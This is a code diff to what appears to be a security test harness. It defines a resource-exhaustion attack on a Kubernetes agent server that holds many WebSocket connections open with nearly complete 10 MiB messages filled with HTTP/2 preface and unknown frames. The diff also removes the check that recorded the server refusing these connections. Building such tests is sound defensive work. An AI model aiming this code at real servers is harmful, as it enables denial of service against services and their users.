@@ -11,6 +11,15 @@ interface Size {
 /** the longest that is taken */
 const messageBytes = 10 * 1024 * 1024
 
+/** what HTTP/2 reads and passes by: the preface, SETTINGS, frames of a type that it does not know */
+function payload(): Buffer {
+  const frame = (type: number, bytes: number) =>
+    Buffer.concat([Buffer.of(0, bytes >> 8, bytes & 255, type, 0, 0, 0, 0, 0), Buffer.alloc(bytes)])
+  const unknown = frame(0xfa, 16 * 1024 - 9)
+  const frames = Array.from({ length: Math.ceil(messageBytes / unknown.length) }, () => unknown)
+  return Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0), ...frames], messageBytes)
+}
+
 const upgrade = [
   'GET /-/kubernetes-agent/ HTTP/1.1',
   'Host: kas',
@@ -25,17 +34,15 @@ const upgrade = [
 export const halfWebSockets: Attack<Size> = {
   name: 'half-websockets',
   what: 'long WebSocket messages of strangers, each without its last byte',
-  refusal: /^ended$/,
-  counter: 'kas_agents_refused_total{reason="too_much_unread"}',
   cheap: { connections: 16 },
   full: { connections: 60 },
   async play(stage, { connections }, signal) {
     const sockets: TLSSocket[] = []
-    let ended = 0
-    const frame = Buffer.alloc(14 + messageBytes - 1)
-    frame[0] = 0x82
-    frame[1] = 0xff
-    frame.writeBigUInt64BE(BigInt(messageBytes), 2)
+    const head = Buffer.alloc(14) // masked, by zero
+    head[0] = 0x82
+    head[1] = 0xff
+    head.writeBigUInt64BE(BigInt(messageBytes), 2)
+    const frame = Buffer.concat([head, payload().subarray(0, -1)])
     for (let i = 0; i < connections; i++) {
       const socket = dial(stage.ca, stage.holder.agents, ['http/1.1'])
       sockets.push(socket)
@@ -45,9 +52,7 @@ export const halfWebSockets: Attack<Size> = {
       socket.write(upgrade)
       await abortable(Promise.race([new Promise((resolve) => socket.once('data', resolve)), closed]), signal)
       await abortable(Promise.race([new Promise((resolve) => socket.write(frame, resolve)), closed]), signal)
-      void closed.then(() => ended++)
     }
-    // the reason, in a close frame, is behind what was sent and not read
-    return { refusal: ended > 0 ? 'ended' : '', end: async () => sockets.forEach((socket) => void socket.destroy()) }
+    return { refusal: '', end: async () => sockets.forEach((socket) => void socket.destroy()) }
   },
 }
